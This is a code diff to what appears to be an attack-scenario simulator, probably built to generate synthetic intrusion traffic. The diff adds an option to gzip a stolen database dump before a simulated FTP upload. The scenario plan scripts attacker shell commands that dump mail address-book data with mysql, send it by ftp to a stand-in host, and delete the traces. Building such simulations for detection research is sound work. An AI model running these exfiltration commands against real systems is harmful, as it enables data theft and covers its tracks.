@@ -210,7 +210,8 @@ static void build_plan(const struct scenario *sc, bs_time S, int days)
 	add(d3, A_SHELL, wm5, ATT_C, "mysql -h db1 -u atmail -pAtm41l!db atmail -e 'SELECT Account, Email FROM Abook' > /tmp/t.txt", "", 0);
 	add(d3 + 400000, A_DBREAD, wm5, 0, NULL, NULL, 3);
 	add(d3 + 10 * MIN, A_SHELL, wm5, ATT_C, "ftp -n 192.0.2.201 < /tmp/t.ftp", "", 0);
-	add(d3 + 10 * MIN + 300000, A_FTP, wm5, FTP2, NULL, NULL, 0);
+	/* this attacker compresses the dump before sending it (param 1) */
+	add(d3 + 10 * MIN + 300000, A_FTP, wm5, FTP2, NULL, NULL, 1);
 	add(E2 + 2 * DAY - 1 * HOUR, A_SHELL, wm5, ATT_C, "rm -f /tmp/t.txt /tmp/t.ftp", "", 0);
 }
 
@@ -651,7 +652,13 @@ static void run_step(const struct step *s)
 		struct host_addr dst;
 		host_addr_v4(&dst, s->ip, false);
 		const struct buf *d = &dump[s->server];
-		bs_time te = ftp_upload(s->server, &dst, "drop", "x7Gq2p", "dump.txt", d->p ? d->p : "", d->n, s->t + 60000);
+		struct buf gz = { 0 };
+		if (s->param) /* gzip -c: the addresses travel inside a deflate stream */
+			gzip_bytes(&gz, d->p ? d->p : "", d->n);
+		bs_time te = s->param ? ftp_upload(s->server, &dst, "drop", "x7Gq2p", "t.txt.gz", gz.p, gz.n, s->t + 60000)
+		                      : ftp_upload(s->server, &dst, "drop", "x7Gq2p", "dump.txt", d->p ? d->p : "", d->n,
+		                                   s->t + 60000);
+		buf_free(&gz);
 		char ip[BS_IP_STRLEN];
 		ip_str(s->ip, ip, sizeof ip);
 		server_add_attacker_ip(s->server, ip, true);
